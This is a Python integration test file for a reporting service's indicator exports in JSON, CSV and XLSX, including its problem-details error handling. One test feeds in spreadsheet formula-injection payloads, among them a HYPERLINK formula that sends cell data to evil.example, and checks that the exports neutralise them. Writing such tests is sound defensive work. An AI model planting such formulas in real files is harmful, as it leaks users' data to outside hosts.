"""Every number as JSON, CSV and XLSX; bad requests get RFC 9457 problem details."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

from openpyxl import load_workbook

from helpers import assert_problem, eventually, running
from integration.reporting.reporting_scenario import EXPECTED_FIGURES, envelope, publish, recruited, scenario


async def scenario_applied(rep, kafka_bootstrap, namespace) -> None:
    await publish(kafka_bootstrap, namespace, scenario())

    async def applied():
        assert (await rep.get("/indicators")).json() == EXPECTED_FIGURES

    await eventually(applied, timeout=60)


class TestExportsAndApi:
    async def test_exports_and_json_carry_the_same_figures_and_bad_requests_get_problems(
        self, reporting_app, kafka_bootstrap, namespace
    ):
        async with running(reporting_app()) as rep:
            await scenario_applied(rep, kafka_bootstrap, namespace)

            response = await rep.get("/exports/indicators.csv")
            assert response.headers["content-type"].startswith("text/csv")
            assert response.content.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads Polish letters right
            assert "attachment" in response.headers["content-disposition"]
            rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
            assert {r["indicator"]: r["value"] for r in rows} == {k: str(v) for k, v in EXPECTED_FIGURES.items()}
            people = next(r for r in rows if r["indicator"] == "people_supported")
            assert (people["target"], people["progress_percent"]) == ("400", "1.5")

            response = await rep.get("/exports/breakdowns.csv", params={"dimension": "gender"})
            rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
            assert {r["dimension"] for r in rows} == {"gender"}
            assert {(r["bucket"], r["value"]) for r in rows if r["indicator"] == "people_supported"} == {
                ("female", "4"),
                ("male", "2"),
            }

            response = await rep.get("/exports/breakdowns.xlsx")
            assert response.headers["content-type"].startswith("application/vnd.openxmlformats")
            sheet = load_workbook(io.BytesIO(response.content))["Breakdowns"]
            header, *cells = [tuple(c.value for c in row) for row in sheet.iter_rows()]
            assert header == ("indicator", "dimension", "bucket", "value", "unit")
            assert ("advisory_hours", "kind", "accounting", 4.25, "hours") in cells
            assert ("people_supported", "county", "rybnicki", 3, "people") in cells

            workbook = load_workbook(io.BytesIO((await rep.get("/exports/indicators.xlsx")).content))
            values = {r[0].value: r[3].value for r in workbook["Indicators"].iter_rows(min_row=2)}
            assert Decimal(str(values["grants_awarded_pln"])) == Decimal("164500.00")
            assert values["people_supported"] == 6

            monthly = list(
                csv.DictReader(io.StringIO((await rep.get("/exports/series.csv")).content.decode("utf-8-sig")))
            )
            assert [r["people_supported"] for r in monthly[:3]] == ["2", "2", "2"]

            one = (await rep.get("/indicators/jobs_for_people_at_risk")).json()
            assert (one["value"], one["target"], one["unit"]) == (4, 60, "jobs")
            by_age = (await rep.get("/indicators/people_supported/breakdowns/age_band")).json()
            assert [b["bucket"] for b in by_age["buckets"]] == ["18-24", "25-34", "35-49", "50-64"]

            # bad requests get problem details
            assert "people_supported" in assert_problem(await rep.get("/indicators/happiness"), 404)["detail"]
            detail = assert_problem(await rep.get("/indicators/organisations_supported/breakdowns/gender"), 404)[
                "detail"
            ]
            assert "partner, county, month" in detail
            assert_problem(await rep.get("/exports/indicators.pdf"), 404)
            assert_problem(await rep.get("/exports/budget.csv"), 404)
            assert (
                "unknown dimension"
                in assert_problem(await rep.get("/exports/breakdowns.csv", params={"dimension": "shoe_size"}), 422)[
                    "detail"
                ]
            )

    async def test_text_from_events_cannot_become_a_formula_and_no_server_path_shows(
        self, reporting_app, kafka_bootstrap, namespace
    ):
        """Issue 13: a county a partner's event names is a cell, never a formula, in CSV and XLSX."""
        import datetime as dt

        formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
        async with running(reporting_app()) as rep:
            await publish(
                kafka_bootstrap,
                namespace,
                [envelope(recruited(901, "female", "25-34", formula, dt.date(2026, 3, 2))),
                 envelope(recruited(902, "male", "25-34", "@SUM(1+1)", dt.date(2026, 3, 2))),
                 envelope(recruited(903, "male", "25-34", "\tcmd", dt.date(2026, 3, 2)))],
            )  # fmt: skip

            async def applied():
                assert (await rep.get("/indicators")).json()["people_supported"] == 3

            await eventually(applied, timeout=60)
            response = await rep.get("/exports/breakdowns.csv", params={"dimension": "county"})
            rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
            buckets = {r["bucket"] for r in rows if r["indicator"] == "people_supported"}
            assert {"'" + formula, "'@SUM(1+1)", "'\tcmd"} <= buckets, buckets
            workbook = load_workbook(io.BytesIO((await rep.get("/exports/breakdowns.xlsx")).content))
            cells = [c.value for row in workbook["Breakdowns"].iter_rows() for c in row]
            assert "'" + formula in cells and formula not in cells
            about = [c.value for row in workbook["About"].iter_rows() for c in row]
            json_report = (await rep.get("/indicators/report")).text
        for shown in (str(about), json_report, response.text):
            assert "/work/" not in shown and "site-packages" not in shown and "/tmp/" not in shown
